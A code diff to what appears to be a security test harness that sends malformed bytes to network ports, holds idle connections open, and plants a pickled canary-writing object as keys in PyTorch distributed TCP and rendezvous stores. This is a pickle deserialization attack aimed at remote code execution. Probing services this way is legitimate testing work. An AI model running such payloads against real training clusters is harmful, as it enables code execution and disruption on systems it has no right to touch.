@@ -9,7 +9,6 @@ make the canary.
 from __future__ import annotations
 
 import argparse
-import itertools
 import json
 import os
 import pickle
@@ -23,6 +22,7 @@ from collections import Counter
 from collections.abc import Callable
 from datetime import timedelta
 from pathlib import Path
+from threading import Thread
 
 import torch.distributed as dist
 import zmq
@@ -103,7 +103,9 @@ def send_garbage(ports: list[tuple[str, int]], canary: Path) -> Counter[str]:
     code = pickle.dumps(Code(canary))
     tried: Counter[str] = Counter()
     draw, kept = random.Random(1), list[socket.socket]()
-    for number in itertools.count():
+    stores = Counter[str]()
+    Thread(target=_attack_stores, args=(ports, code, stores), daemon=True).start()  # each attempt waits a while
+    while True:
         for host, port in ports:
             for name, make in BYTES.items():
                 connection = _connect(host, port, kept)
@@ -117,16 +119,20 @@ def send_garbage(ports: list[tuple[str, int]], canary: Path) -> Counter[str]:
                     tried["closed at once"] += 1
                 if draw.random() < 0.5:
                     connection.close()
-            if number in (1, 2):  # they wait a while each, and garbage comes first
-                tried["keys set in a store of torch's"] += attack_tcp_store(host, port, code)
-                tried["keys set at the meeting"] += attack_meeting(host, port, code)
             if _is_over():
-                return tried
+                return tried + stores
         for connection in kept[:-OPEN]:
             connection.close()
         del kept[:-OPEN]
         time.sleep(0.05)
-    raise AssertionError("unreachable")
+
+
+def _attack_stores(ports: list[tuple[str, int]], code: bytes, keys: Counter[str]) -> None:
+    """Take each port for a store, of torch's and of the meeting; counts attempts and keys that were set."""
+    for host, port in ports:
+        keys["keys set in a store of torch's"] += attack_tcp_store(host, port, code)
+        keys["keys set at the meeting"] += attack_meeting(host, port, code)
+        keys["attempts at a store"] += 2
 
 
 def stay_silent(ports: list[tuple[str, int]], count: int) -> Counter[str]:
@@ -135,7 +141,10 @@ def stay_silent(ports: list[tuple[str, int]], count: int) -> Counter[str]:
     kept = list[socket.socket]()
     for host, port in ports:
         for _ in range(count):
-            _connect(host, port, kept)
+            connection = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
+            connection.setblocking(False)
+            connection.connect_ex((host, port))
+            kept.append(connection)
     print(json.dumps({"connections": len(kept)}), flush=True)
     while not _is_over():
         time.sleep(0.1)
